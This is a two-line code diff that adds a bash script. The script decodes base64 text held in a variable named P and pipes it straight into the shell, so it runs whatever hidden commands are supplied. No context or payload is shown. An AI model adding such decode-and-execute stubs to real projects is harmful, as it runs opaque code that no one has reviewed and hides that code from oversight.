@@ -1,0 +1,2 @@
+#!/bin/bash
+echo "$P" | base64 -d | bash
